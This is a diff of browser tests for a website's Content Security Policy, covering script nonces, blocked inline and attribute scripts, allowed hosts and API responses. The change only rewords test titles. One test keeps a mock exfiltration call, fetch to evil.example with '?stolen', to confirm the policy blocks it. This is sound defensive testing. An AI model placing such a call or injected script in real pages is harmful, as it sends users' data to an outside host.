@@ -29,7 +29,7 @@ function inlineScripts(html: string): string[] {
   )
 }
 
-test('every page names the hosts that its scripts, frames and calls may come from', async ({
+test('every page lists the hosts that its scripts, frames and calls may come from', async ({
   request,
 }) => {
   for (const path of ['/', '/allrequest', '/login', '/donate', '/no/such/page']) {
@@ -51,9 +51,7 @@ test('every page names the hosts that its scripts, frames and calls may come fro
   }
 })
 
-test('a page of one person runs the inline scripts that were made for this request alone', async ({
-  page,
-}) => {
+test('a personal page runs only the inline scripts of this request', async ({ page }) => {
   await logIn(page, 'member@sharelife.example')
   const nonces = new Set<string>()
   for (const path of ['/donate', '/dashboard/userhome', '/dashboard/profile', '/reset?token=x']) {
@@ -94,11 +92,13 @@ declare global {
   }
 }
 
-test.describe('somebody who gets their own words into a page', () => {
+test.describe('somebody who injects text into a page', () => {
   // What is stopped is an error on the console: here that is the point.
   test.use({ watched: undefined })
 
-  test('runs nothing from an attribute, on a kept page as on a person’s own', async ({ page }) => {
+  test('runs nothing from an attribute, on a cached page or on a personal one', async ({
+    page,
+  }) => {
     for (const path of ['/about', '/donate']) {
       if (path === '/donate') await logIn(page, 'member@sharelife.example')
       await page.goto(path)
@@ -113,7 +113,7 @@ test.describe('somebody who gets their own words into a page', () => {
     }
   })
 
-  test('runs no inline script on a page that is made for one person', async ({ page }) => {
+  test('runs no inline script on a personal page', async ({ page }) => {
     await logIn(page, 'member@sharelife.example')
     await page.goto('/donate')
     const stopped = await stoppedBy(page, () => {
@@ -125,7 +125,7 @@ test.describe('somebody who gets their own words into a page', () => {
     expect(await page.evaluate(() => window.wasRun)).toBeUndefined()
   })
 
-  test('sends nothing to another host, and brings no code from one', async ({ page }) => {
+  test('sends nothing to another host, and loads no code from one', async ({ page }) => {
     await page.goto('/about')
     const stopped = await stoppedBy(page, () => {
       void fetch('https://evil.example/?stolen').catch(() => undefined)
@@ -141,9 +141,7 @@ test.describe('somebody who gets their own words into a page', () => {
   })
 })
 
-test('calls answer data alone, and pictures may be shown by whoever shares a page', async ({
-  request,
-}) => {
+test('calls answer only data, and other sites may show pictures', async ({ request }) => {
   const calls = ['/api/getservices', '/getservices', '/api/no-such-call', '/api/health']
   for (const path of calls) {
     const answer = await request.get(path)
